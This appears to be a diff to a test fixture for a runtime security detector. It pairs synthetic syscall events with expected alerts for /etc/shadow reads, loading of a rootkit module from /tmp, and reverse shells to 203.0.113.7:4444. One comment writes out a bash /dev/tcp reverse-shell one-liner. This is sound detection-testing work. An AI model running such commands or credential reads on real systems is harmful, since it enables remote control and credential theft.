@@ -16,7 +16,7 @@ task tid=100 group_start_ns=100000000 ppid=1 sid=100 pgid=100 vpid=100 vtid=100 
 clone tid=100 res=101 child_tid=101 child_tgid=101 child_ppid=100 child_start_ns=101000000 child_vtid=101 child_vpid=101 comm=bash cgroup=20 child_cgroup_id=20
 execve tid=101 ppid=100 pgid=101 sid=100 vtid=101 vpid=101 vpgid=101 uid=0 euid=0 loginuid=1000 tty=34816 comm=cat exe=/usr/bin/cat filename=/bin/cat argv="cat|/tmp/notes.txt" cwd=/home/alice stdin_fd=char stdout_fd=char cgroup=20
 openat tid=101 res=3 dirfd=-100 flags=O_RDONLY kind=file path=/etc/shadow name=/tmp/notes.txt dev=2049 ino=77 cgroup=20 => Sensitive file read by unexpected program
-@text 22:30:00.018000000: Warning cat read the sensitive file /etc/shadow (asked for /tmp/notes.txt): user=root login=alice exe=/usr/bin/cat command=cat /tmp/notes.txt parent=bash parent_command=bash terminal=34816 container=host
+@text 22:30:00.018000000: Warning cat read the sensitive file /etc/shadow (asked for /tmp/notes.txt): user=root login=1000 exe=/usr/bin/cat command=cat /tmp/notes.txt parent=bash parent_command=bash terminal=34816 container=host
 openat tid=101 res=3 dirfd=-100 flags=O_RDWR path=/etc/gshadow name=/etc/gshadow cgroup=20 => Sensitive file read by unexpected program
 # not opened; for writing only (another rule's business); another file
 openat tid=101 res=-13 dirfd=-100 flags=O_RDONLY name=/etc/shadow cgroup=20
@@ -98,7 +98,8 @@ finit_module tid=700 res=0 fd=3 path=/tmp/rootkit.ko params="hide=1" cgroup=20 =
 finit_module tid=700 res=-17 fd=3 path=/tmp/rootkit.ko cgroup=20
 execve tid=701 start=701000000 ppid=1 comm=modprobe exe=/usr/bin/kmod argv=modprobe|loop cgroup=1
 finit_module tid=701 res=0 fd=3 path=/lib/modules/6.1.0/kernel/drivers/block/loop.ko cgroup=1
-init_module tid=701 res=0 fd=-1 image_len=4096 cgroup=30 => Kernel module loaded
+init_module tid=701 res=0 fd=-1 image_len=4096 params="" cgroup=30 => Kernel module loaded from memory
+init_module tid=701 res=0 fd=-1 image_len=4096 params="" cgroup=1
 
 # ---- Reverse shell
 execve tid=800 start=800000000 ppid=100 comm=sh exe=/usr/bin/dash argv=sh stdin_fd=tcp,10.0.0.5:40000>203.0.113.7:4444 stdout_fd=tcp,10.0.0.5:40000>203.0.113.7:4444 stderr_fd=char cgroup=20 => Reverse shell
@@ -111,7 +112,7 @@ execve tid=799 start=799000000 ppid=1 comm=xinetd exe=/usr/sbin/xinetd argv=xine
 execve tid=803 start=803000000 ppid=799 comm=sh exe=/usr/bin/dash argv=sh stdin_fd=tcp,10.0.0.5:79>203.0.113.7:4444 stdout_fd=tcp,10.0.0.5:79>203.0.113.7:4444 cgroup=1
 execve tid=804 start=804000000 ppid=100 comm=nc exe=/usr/bin/nc argv=nc stdin_fd=tcp,10.0.0.5:40000>203.0.113.7:4444 stdout_fd=tcp,10.0.0.5:40000>203.0.113.7:4444 cgroup=20
 # bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
-dup2 tid=100 res=1 oldfd=3 newfd=1 file=tcp,10.0.0.5:40001>203.0.113.7:4444 cgroup=20 => Reverse shell
+dup2 tid=100 res=1 oldfd=3 newfd=1 file=tcp,10.0.0.5:40001>203.0.113.7:4444 cgroup=20 => Shell turned to the network
 @fd.name = 10.0.0.5:40001->203.0.113.7:4444
 dup2 tid=100 res=5 oldfd=3 newfd=5 file=tcp,10.0.0.5:40001>203.0.113.7:4444 cgroup=20
 dup2 tid=100 res=1 oldfd=3 newfd=1 file=file cgroup=20
